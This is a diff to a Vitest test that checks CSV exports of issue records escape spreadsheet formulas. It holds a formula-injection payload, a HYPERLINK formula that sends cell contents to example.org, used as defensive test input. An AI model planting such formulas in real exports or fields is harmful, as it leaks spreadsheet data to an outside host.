@@ -1,10 +1,10 @@
+import { parse } from "csv-parse/sync";
 import { expect, test } from "vitest";
 
 import { newId } from "@/lib/core/ids";
 import type { Issue } from "@/lib/contracts/shapes";
 import { csvHeader, csvLines } from "@/lib/formats/csv";
 import { ISSUE_COLUMNS } from "@/lib/services/exports/columns";
-import { csvRows } from "@/tests/factories/reports-read";
 
 test("what people have typed about an issue is no formula to whoever opens the file", () => {
   const typed = '=HYPERLINK("https://example.org?"&A1)';
@@ -29,7 +29,8 @@ test("what people have typed about an issue is no formula to whoever opens the f
     detail: typed,
     facts: {},
   };
-  const [row] = csvRows(csvHeader(ISSUE_COLUMNS) + csvLines(ISSUE_COLUMNS, [issue]));
+  const file = csvHeader(ISSUE_COLUMNS) + csvLines(ISSUE_COLUMNS, [issue]);
+  const [row] = parse<Record<string, string>>(file, { columns: true });
   for (const column of ["merchantName", "assignedName", "resolvedBy", "reason", "title", "detail"])
     expect([column, row?.[column]]).toEqual([column, `'${typed}`]);
 });
